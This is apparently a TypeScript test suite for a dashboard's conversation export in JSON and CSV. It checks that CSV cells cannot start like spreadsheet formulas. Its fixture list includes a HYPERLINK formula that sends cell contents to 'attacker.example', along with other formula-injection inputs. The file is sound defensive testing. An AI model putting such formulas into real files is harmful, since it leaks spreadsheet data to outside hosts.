import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import { z } from 'zod';
import { exportedSchema } from '../../../../src/http/dashboard/analytics/conversation-schema.js';
import { conversationOf } from '../../../storage/conversation.js';
import { onEachServer } from './each-server.js';

/** What somebody asks who wants a spreadsheet to run it, or a table to fall apart. */
const questions = [
  '=HYPERLINK("https://attacker.example/?"&A1,"Help")',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1+1',
  '\t=1',
  "'=1",
  '＝1',
  'Plain',
  '"quoted", and\r\nin two lines',
  "it's 名前 🫖",
  '',
];

const dates = { createdAt: '2026-11-20T10:00:00.000Z', finishedAt: '2026-11-20T10:00:01.000Z' };
const query = 'from=2026-11-20&to=2026-11-20';

onEachServer('the export of conversations', (server) => {
  before(async () => {
    const { stores } = server();
    const { id: threadId } = await stores.threads.create('docs');
    // More than are read at once.
    for (let count = 0; count < 410; count += 1) {
      await stores.conversations.record(
        conversationOf(threadId, {
          ...{ ...dates, project: 'docs', question: questions[count % questions.length] ?? '' },
          ...(count === 0 ? { category: '=cmd', version: 'v1' } : {}),
        }),
      );
    }
  });

  const open = (format: string) => server().client.send(`export?${query}&format=${format}`);

  it('holds every conversation once, in JSON', async () => {
    const response = await open('json');
    assert.equal(response.headers.get('content-type'), 'application/json');
    assert.equal(
      response.headers.get('content-disposition'),
      'attachment; filename="conversations-2026-11-20-to-2026-11-20.json"',
    );
    const exported = z.array(exportedSchema).parse(await response.json());
    assert.equal(new Set(exported.map(({ id }) => id)).size, 410);
  });

  it('is the same as CSV, in which no cell begins like a formula', async () => {
    const response = await open('csv');
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    const bytes = new Uint8Array(await response.arrayBuffer());
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
    const [names = [], ...rows] = parseCsv(new TextDecoder().decode(bytes));
    const cells = rows.flat();
    assert.ok(cells.every((cell) => !/^\s*[=+\-@＝]/.test(cell)));
    const read = rows.map((row) =>
      Object.fromEntries(names.map((name, column) => [name, restore(row[column] ?? '')])),
    );
    const exported = z.array(exportedSchema).parse(await (await open('json')).json());
    const expected = exported.map(({ sources, ...rest }) => ({
      ...Object.fromEntries(
        Object.entries(rest).map(([name, value]) => [name, String(value ?? '')]),
      ),
      sources: sources.map(({ title, url }) => `${title} <${url}>`).join('\n'),
    }));
    assert.deepEqual(read, expected);
  });
});

/** Takes away the apostrophe that keeps a cell a text. */
function restore(cell: string): string {
  return /^'+[\s\p{Cc}]*[=+\-@＝]/u.test(cell) ? cell.slice(1) : cell;
}

/** Source: RFC 4180, with every cell in quotation marks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const line of text.match(/(?:"(?:[^"]|"")*"(?:,|\r\n))+?(?<=\r\n)/g) ?? []) {
    const cells = line.match(/"(?:[^"]|"")*"(?=,|\r\n)/g) ?? [];
    rows.push(cells.map((cell) => cell.slice(1, -1).replaceAll('""', '"')));
  }
  assert.equal(rows.flat().length % (rows[0]?.length ?? 1), 0);
  return rows;
}
